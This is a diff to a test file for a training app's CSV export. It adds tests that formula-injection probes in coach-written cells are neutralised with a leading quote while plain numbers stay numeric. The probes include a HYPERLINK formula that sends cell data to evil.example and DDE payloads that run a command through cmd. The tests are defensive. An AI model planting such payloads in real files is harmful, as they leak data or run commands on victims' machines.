@@ -2,7 +2,7 @@ import ICAL from 'ical.js';
 import { parse } from 'csv-parse/sync';
 import { describe, expect, it } from 'vitest';
 import { reviseCalendar } from '../../../../src-main/common/domain/export/calendar-sequence';
-import { buildCsv, CSV_COLUMNS } from '../../../../src-main/common/domain/export/csv';
+import { buildCsv, csvCell, CSV_COLUMNS } from '../../../../src-main/common/domain/export/csv';
 import { buildIcs, calendarEvent, calendarUid } from '../../../../src-main/common/domain/export/ics';
 import { FIXED_STAMP, fixedPlan, HR_ZONE_2_STEP } from './export-fixture';
 import { expectGolden } from './golden';
@@ -126,5 +126,29 @@ describe('CSV export', () => {
     plan.sessions[0] = { ...plan.sessions[0]!, name: '=HYPERLINK("x")' };
     const rows = parse(buildCsv(plan, plan.sessions), { columns: true, bom: true }) as Record<string, string>[];
     expect(rows[0]!.workout).toBe('\'=HYPERLINK("x")');
+  });
+
+  it.each([
+    ['a formula after a negative number', '-1+HYPERLINK("http://evil.example/?"&A1,"x")'],
+    ['a DDE command after a sum', "-2+3+cmd|' /C calc'!A0"],
+    ['a tab first', '\t=1+1'],
+    ['a space first', ' =1+1'],
+    ['a carriage return first', '\r=1+1'],
+    ['a line feed first', '\n=1+1'],
+    ['an at sign', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
+    ['a plus sign', '+1+1'],
+  ])('keeps %s as text in every coach-written cell', (_, probe) => {
+    const plan = fixedPlan();
+    plan.sessions[0] = { ...plan.sessions[0]!, name: probe, definition: { ...plan.sessions[0]!.definition, description: probe } };
+    const rows = parse(buildCsv(plan, plan.sessions), { columns: true, bom: true }) as Record<string, string>[];
+    expect(rows[0]!.workout).toBe(`'${probe}`);
+    expect(rows[0]!.description).toBe(`'${probe}`);
+  });
+
+  it('leaves plain numbers, negative ones included, as numbers a spreadsheet can sum', () => {
+    for (const value of ['0', '75', '12.50', '-5', '-0.5']) expect(csvCell(value)).toBe(value);
+    expect(csvCell(-0.5)).toBe('-0.5');
+    expect(csvCell('-5 km')).toBe("'-5 km");
+    expect(csvCell('-.5')).toBe("'-.5");
   });
 });
